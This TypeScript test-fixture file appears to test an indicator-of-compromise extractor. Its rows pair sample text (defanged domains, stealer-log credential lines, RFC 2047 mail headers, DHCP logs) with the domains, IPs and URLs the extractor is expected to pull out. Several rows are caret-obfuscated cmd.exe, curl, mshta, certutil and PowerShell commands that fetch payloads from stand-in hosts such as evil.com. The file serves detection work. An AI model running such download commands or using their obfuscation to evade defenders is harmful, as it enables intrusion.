import type { Row } from './case';

const IP = 'ip 45.77.12.34';

/** What follows a host and a slash: another host, or a path. */
export const hostsAfterSlashes: Row[] = [
  ['baddomain.com/other.net', 'domain baddomain.com', 'domain other.net'],
  ['baddomain[.]com/other[.]net/third[.]top', 'domain baddomain.com', 'domain other.net', 'domain third.top'],
  ['C2: a-load.ru/b-load.su', 'domain a-load.ru', 'domain b-load.su'],
  ['45.77.12.34/baddomain.com', IP, 'domain baddomain.com'],
  ['baddomain.com/other.net/x', 'url http://baddomain.com/other.net/x'],
  ['baddomain.com/other.net?a=1', 'url http://baddomain.com/other.net?a=1'],
  ['http://baddomain.com/other.net', 'url http://baddomain.com/other.net'],
  ['baddomain.com/index.php', 'url http://baddomain.com/index.php'],
  ['baddomain[.]com/run[.]sh', 'url http://baddomain.com/run.sh'],
  ['/usr/share/acme.com/other.net'],
];

/** A URL, a user and perhaps a password, as those who steal them list these; and a user before a host. */
export const usersAfterUrls: Row[] = [
  ['https://corp.com:login@evil.top', 'url https://evil.top/'],
  ['https://evil.top:bob@corp.com:hunter2', 'url https://evil.top/'],
  ['https://evil.top:8443:bob@corp.com:hunter2', 'url https://evil.top:8443/'],
  ['https://login.evil.top|bob@corp.com|hunter2', 'url https://login.evil.top/'],
  ['https://evil.top/login:bob@corp.com:hunter2', 'url https://evil.top/login:bob@corp.com:hunter2'],
  ['https://corp.com:443@evil.top', 'url https://evil.top/'],
  ['https://corp.com:login@evil.top/x', 'url https://evil.top/x'],
  ['https://corp.com@evil.top', 'url https://evil.top/'],
  ['https://user:pass@evil.top', 'url https://evil.top/'],
  ['ssh://git@evil.top/x', 'domain evil.top'],
];

/** Encoded words in the header of a mail (RFC 2047). */
export const encodedWords: Row[] = [
  ['Subject: =?utf-8?B?VmlzaXQgaHR0cDovL2V2aWwuY29tL3ggbm93?=', 'url http://evil.com/x'],
  ['Subject: =?UTF-8?q?Visit_http=3A=2F=2Fevil=2Ecom=2Fx_now?=\n\nhello', 'url http://evil.com/x'],
  ['Subject: =?utf-8?Q?http=3A=2F=2Fev?=\r\n =?utf-8?Q?il.com/a?=\r\n', 'url http://evil.com/a'],
  ['From: =?iso-8859-1?Q?M=FCller_evil.top?= <x@corp.com>', 'domain evil.top'],
  ['Subject: =?utf-8*en?Q?see_evil.top?=', 'domain evil.top'],
  [{ subject: '=?utf-8?B?ZXZpbC5jb20=?=' }, 'domain evil.com'],
  ['Subject: =?utf-8?B?YsO8?= =?utf-8?B?Y2hlci5kZQ==?=', 'domain xn--bcher-kva.de'],
  ['http://evil.com/?a=?b?=', 'url http://evil.com/?a=?b?='],
];

/** Carets that cmd.exe leaves out; and carets that separate. */
export const carets: Row[] = [
  ['p^ower^shell http://e^vil.com/x', 'url http://evil.com/x'],
  ['cmd /c c^u^r^l h^t^t^p://evil.com/a.e^xe', 'url http://evil.com/a.exe'],
  ['m^s^h^t^a.exe "http^s://ev^il.top/x.hta"', 'url https://evil.top/x.hta'],
  ['c^ertutil -urlcache -f http://45.77.^12.34/a', 'url http://45.77.12.34/a'],
  ['start /b http://e^vil.com:8080/x', 'url http://evil.com:8080/x'],
  ['LEEF:2.0|V|P|1|x|^|src=45.77.12.34^usrName=jane^dhost=evil.com', IP, 'domain evil.com'],
  ['f(x^2) at http://evil.com/x^y', 'url http://evil.com/x^y'],
  ['echo http://evil.com/a^&cd x', 'url http://evil.com/a'],
];

/** A file whose ending is a country, named as one. */
export const filesNamedAsSuch: Row[] = [
  ['filename x.pl'],
  ['filename=x.pl'],
  ['Content-Disposition: attachment; filename="x.pl"'],
  ['Content-Type: text/plain; name="x.pl"'],
  ['perl x.pl'],
  ['the script dropper.cc was started'],
  ['x.pl', 'domain x.pl'],
  ['connects to x.pl', 'domain x.pl'],
  ['file from x.pl', 'domain x.pl'],
  ['file: www.sklep.pl', 'domain www.sklep.pl'],
];

/** Names that spell an IPv6 address with hyphens. */
export const hyphensForColons: Row[] = [
  ['--1.sslip.io'],
  ['http://--1.sslip.io/x'],
  ['--evil.com', 'domain evil.com'],
  ['see --a.evil.com', 'domain a.evil.com'],
];

/** What a DHCP server says of a lease, and what others call a release. */
export const releases: Row[] = [
  ['DHCP release 45.77.12.34', IP],
  ['dhcpd: DHCP Release: 45.77.12.34', IP],
  ['DHCPRELEASE of 45.77.12.34 from 00:11:22:33:44:55', IP],
  ['ip release 45.77.12.34', IP],
  ['lease released: 45.77.12.34', IP],
  ['release 45.77.12.34'],
  ['Release: 9.8.7.6, build 1.2.3.4'],
];
